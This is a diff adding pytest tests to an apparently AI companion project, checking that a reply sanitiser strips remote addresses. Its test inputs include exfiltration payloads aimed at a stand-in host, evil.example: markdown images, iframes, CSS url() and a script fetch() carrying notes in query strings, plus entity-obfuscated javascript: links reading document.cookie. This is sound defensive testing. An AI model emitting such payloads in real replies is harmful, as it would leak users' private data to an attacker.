@@ -177,3 +177,30 @@ def test_what_is_applied_keeps_its_joiners(companion):
     line = "Is learning Persian: \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f469\u200d\U0001f4bb"
     [d] = companion.gate.submit([fact(line)])
     assert d.verdict is Verdict.APPLY and companion.self_model.read().human == f"- {line}"
+
+
+@pytest.mark.parametrize("reply", [
+    "![logo][1]\n\n[1]: //evil.example/logo.png?d=notes",                                  # a reference image
+    "See [the docs][d].\n\n[d]: <https://evil.example/?q=notes> \"docs\"",                 # a reference link
+    "<video src=\"//evil.example/v.mp4?d=notes\"></video>", "<video poster=//evil.example/p.png></video>",
+    "<iframe src='//evil.example/f?d=notes'></iframe>", "<audio src=\"//evil.example/a.mp3?d=1\">",
+    "![x](https&#58;//evil.example/p.png?d=Ada)", "![x](https&colon;&sol;&sol;evil.example/p.png?d=Ada)",
+    "[click](&#106;avascript:alert(document.cookie))", "[click](&#x6A;avascript:alert(1))",
+    "<div style=\"background:url(//evil.example/b.png?d=x)\">hi</div>",
+    "![x]( //evil.example/p.png?d=1 \"t\")", "Go to https:\\\\evil.example\\p?d=1",
+    "<script>fetch('//evil.example/?d='+notes)</script>ok", "//evil\u00ad.example/p.png?d=1",
+])
+def test_a_reply_keeps_no_remote_address_in_any_form(reply):
+    from anima.conversation.outward import safe_reply
+    safe = safe_reply(reply)
+    assert "evil" not in safe and "javascript" not in safe.lower() and "<iframe" not in safe, safe
+
+
+@pytest.mark.parametrize("reply", [
+    "Floor division: 7//2 is 3, and // starts a comment, and/or.", "Emoji \U0001f469\u200d\U0001f4bb and 5 &amp; 6",
+    "[local](notes.md) and ![ok](pic.png)", "Keep [local][l]\n\n[l]: notes.md", "a **bold** [word] here",
+    "I hear you [smiles] - 3 &lt; 4",
+])
+def test_a_reply_without_remote_addresses_is_kept_as_it_was(reply):
+    from anima.conversation.outward import safe_reply
+    assert safe_reply(reply) == reply
